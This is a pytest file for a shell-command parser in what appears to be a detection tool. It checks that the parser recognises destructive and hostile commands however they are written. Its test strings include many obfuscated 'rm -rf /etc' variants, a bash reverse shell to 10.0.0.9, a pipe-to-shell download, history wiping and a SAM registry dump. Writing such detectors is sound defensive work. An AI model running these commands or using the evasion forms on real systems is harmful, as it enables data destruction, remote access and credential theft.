"""Lines taken apart into what they run."""

import time

import pytest

from recorder.detect.taking_apart import MOST_PARTS, MOST_READ, take_apart


def programs(line):
    return take_apart(line).names


def part(line, runs):
    (found,) = [one for one in take_apart(line).parts if one.get("Runs") == runs]
    return found


def test_programs_are_found_behind_what_runs_them():
    assert programs("FOO=1 sudo -u root nice -n 5 /bin/rm -rf x | tee y && timeout 5s nc -l") == (
        *("sudo", "nice", "rm", "tee", "timeout", "nc"),
    )
    assert programs("echo 'rm -rf /' \"and $(id) or `who`\"") == ("id", "who", "echo")
    assert programs("""bash -c 'curl x | sh -c "rm y"'""") == ("bash", "curl", "sh", "rm")
    assert programs(r'"C:\Program Files\Tool\NET.EXE" user x /add') == ("net",)
    assert programs('echo "a $(cat x) b) c" && (cd /x; ls)') == ("cat", "echo", "cd", "ls")
    assert programs("diff <(sort a) <(uniq b)") == ("sort", "uniq", "diff")
    assert programs("if true; then reboot; fi") == ("true", "reboot")
    assert programs("'") == programs("") == ()
    assert len(programs("a;" * 20_000)) == 1


@pytest.mark.parametrize(
    "line",
    [
        *(
            "rm -rf /etc",
            "r''m -rf /etc",
            '"rm" -rf /etc',
            r"\rm -rf /etc",
            "/bin/rm -rf //etc/",
            "rm -rf /usr/../etc/.",
        ),
        *("sudo -Hu root -- rm -rf /etc", "sudo sh -c 'rm -rf /etc'", "su - root -c 'rm -rf /etc'", "eval rm -rf /etc"),
        *("ssh -p 22 root@db 'rm -rf /etc'", "ssh db -t sudo rm -rf /etc", "env A=b nohup rm -rf /etc &"),
        *(
            "echo /etc | xargs -n 1 rm -rf",
            "echo 'rm -rf /etc' | ssh db",
            "sh <<< 'rm -rf /etc'",
            "busybox rm -rf /etc",
        ),
        *(
            "a=rm; b=/etc; $a -rf ${b}",
            "rm${IFS}-rf${IFS}/etc",
            "rm -rf /{usr,etc}",
            "for d in /usr /etc; do rm -rf $d; done",
        ),
        *("cd / && rm -rf etc", "f() { rm -rf /etc; }; f", "true || (sleep 1; rm -rf /etc)", "$(echo rm) -rf /etc"),
        *("""python3 -c 'import os; os.system("rm -rf /etc")'""", ":!rm -rf /etc", "docker exec -it db rm -rf /etc"),
        *(r"\! rm -rf /etc", "trap 'rm -rf /etc' EXIT", "kubectl exec web-1 -n x -- rm -rf /etc", "$'\\x72m' -rf /etc"),
        *(
            "find / -maxdepth 1 -name etc -exec rm -rf {} +",
            "timeout -k 1 5 stdbuf -o0 rm -rf /etc",
            "if :; then rm -rf /etc; fi",
        ),
    ],
)
def test_the_same_deletion_is_seen_however_it_is_written(line):
    assert "/etc" in part(line, "rm")["Path"]


def test_what_is_only_said_is_not_run():
    for line in ("echo 'rm -rf /etc'", 'grep "rm -rf /etc" notes', "git commit -m 'x; rm -rf /etc'", "man rm"):
        assert "rm" not in programs(line)


def test_a_command_knows_what_feeds_it_and_what_it_stands_behind():
    bash = part("curl -s x | tee y | sudo -E bash -", "bash")
    assert (bash["FedBy"], bash["Behind"]) == (("curl", "tee"), ("sudo",))
    assert part('bash -c "$(wget -qO- x)"', "bash")["FedBy"] == ("wget",)
    assert part("source <(curl x)", "source")["FedBy"] == ("curl",)
    drop = part("psql -Atc 'select 1; drop/**/table x'", "drop")
    assert (drop["Command"], drop["Behind"]) == ("drop table x", ("psql",))
    assert part("bash -i >&/dev/tcp/10.0.0.9/443 0>&1", "bash")["Writes"] == ("/dev/tcp/10.0.0.9/443",)
    assert part("export HISTFILE=/dev/null", "export")["Sets"] == ("HISTFILE=/dev/null",)
    assert part("cat < ~/./x", "cat")["Path"] == ("~/x",)


def test_what_a_command_looks_for_is_no_path_that_it_reaches():
    assert part("grep -A1 /etc/shadow notes.md", "grep")["Path"] == ("notes.md",)
    assert "/etc/shadow" in part("grep -e. /etc/shadow", "grep")["Path"]
    assert "/etc/shadow" in part("sudo sed -n p /etc/shadow", "sed")["Path"]
    statement = part("update t set at=now() where id = 5;", "update")
    assert statement["Command"] == "update t set at=now where id = 5"


def test_a_windows_path_keeps_its_backslashes():
    assert part(r"del /s C:\Windows\\Temp", "del")["Path"] == ("/s", r"C:\Windows\Temp")
    assert part(r'cmd /c "r^eg save HKLM\SAM C:\s"', "reg")["Word"][1] == r"HKLM\SAM"
    assert part(r"Get-ChildItem C:\x | ForEach-Object { Remove-Item $_ -Recurse }", "remove-item")["FedBy"] == (
        "get-childitem",
    )
    assert "/etc" in part(r"r\m -rf /etc C:\x", "rm")["Path"]  # such a path does not hide what it is not about


HOSTILE = (
    *(
        "a;",
        "(",
        "$(",
        '"$(',
        "`",
        "'",
        "sudo ",
        "${a",
        "$'",
        "b=$a$a;a=$b$b;",
        "ssh a ",
        'run("',
        "{a,b}",
        "x ",
        "<<<",
    ),
    *(
        "> a ",
        "<(",
        "C:\\a{ ",
        "drop /*",
        "echo 'echo x|sh'|sh|",
        "find / -exec ",
        "if { ",
        "a^",
        "../",
        "a=",
        "[",
        "%a",
    ),
)


@pytest.mark.parametrize("piece", HOSTILE)
def test_a_hostile_line_of_a_megabyte_is_taken_apart_in_bounds(piece):
    line = piece * (1_000_000 // len(piece))
    began = time.process_time()
    taken = take_apart(line)
    assert time.process_time() - began < 0.5
    assert len(taken.parts) <= MOST_PARTS
    assert taken.unread > len(line) - MOST_READ
